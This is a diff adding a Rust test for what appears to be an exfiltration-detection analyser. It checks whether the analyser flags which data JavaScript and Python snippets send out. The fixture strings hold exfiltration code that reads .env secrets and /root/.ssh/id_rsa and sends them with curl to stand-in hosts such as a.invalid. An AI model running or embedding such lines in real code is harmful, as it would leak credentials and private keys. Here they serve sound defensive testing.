@@ -375,3 +375,55 @@ fn what_a_group_writes_is_read_as_one_and_a_timetable_is_code() {
         assert!(!told.iter().any(runs_fetched), "{text}: {told:#?}");
     }
 }
+
+#[test]
+fn each_gap_of_a_line_that_is_put_together_is_filled_from_its_own_place() {
+    let key = "const fs = require('fs'); const cp = require('child_process');\n\
+               const t = fs.readFileSync('.env', 'utf8'); const u = process.argv[2];\n";
+    let in_header = [
+        "cp.exec(`curl -H 'Authorization: Bearer ${t}' -d '${u}' https://a.invalid/${u}`);",
+        "cp.exec('curl -H \"Authorization: ' + t + '\" -d ' + u + ' https://a.invalid');",
+        "const all = ['-s', '-H', `Authorization: ${t}`]; all.push('-d', u);\n\
+         cp.exec(`curl ${all.map(a => `'${a}'`).join(' ')} https://a.invalid`);",
+    ];
+    // As a line is quoted for the shell, with a variable whose name may be set.
+    let quoted = "const v = process.env[process.argv[3] || 'API_TOKEN']; const all = ['-s'];\n\
+                  if (v) all.push('-H', `${process.argv[4] || 'Authorization'}: ${t || v}`);\n\
+                  const line = all.map(a => `'${a.replace(/'/g, \"'\\\\''\")}'`).join(' ');\n\
+                  cp.exec(`curl ${line} https://a.invalid`);";
+    let in_header = in_header.into_iter().chain([quoted]);
+    for line in in_header {
+        let told = told(Language::JavaScript, &format!("{key}{line}"));
+        let contact = "contact https://a.invalid";
+        let is_clean = |line: &String| line.starts_with(contact) && line.ends_with("with ");
+        assert!(told.iter().any(is_clean), "{line}: {told:#?}");
+    }
+    let in_body = [
+        "cp.exec(`curl -H 'X-Id: ${u}' -d '${t}' https://a.invalid`);",
+        "cp.exec('curl -H \"X-Id: ' + u + '\" -d ' + t + ' https://a.invalid');",
+        "const all = ['-s', '-H', `X-Id: ${u}`]; all.push('-d', t);\n\
+         cp.exec(`curl ${all.map(a => `'${a}'`).join(' ')} https://a.invalid`);",
+        // What is added behind is not told apart from what stood there.
+        "let l = `curl -H '${u}' -d '${u}' https://a.invalid`; l.append(t); cp.exec(l);",
+    ];
+    for line in in_body {
+        tells(
+            Language::JavaScript,
+            &format!("{key}{line}"),
+            &["contact https://a.invalid with  [Settings]"],
+        );
+    }
+    tells(
+        Language::Python,
+        "import os, sys\nk = open('/root/.ssh/id_rsa').read()\n\
+         os.system(f'curl -H \"X: {sys.argv[1]}\" -d \"{k}\" https://a.invalid')\n\
+         os.system('curl -H \"X: %s\" -d %s https://b.invalid' % (k, sys.argv[1]))\n\
+         os.system(f'sh -c \"curl -d {sys.argv[1]} https://c.invalid; curl -d {k} https://d.invalid\"')\n",
+        &[
+            "contact https://a.invalid with  [Keys]",
+            "contact https://b.invalid with  [Keys]",
+            "contact https://c.invalid with ",
+            "contact https://d.invalid with  [Keys]",
+        ],
+    );
+}
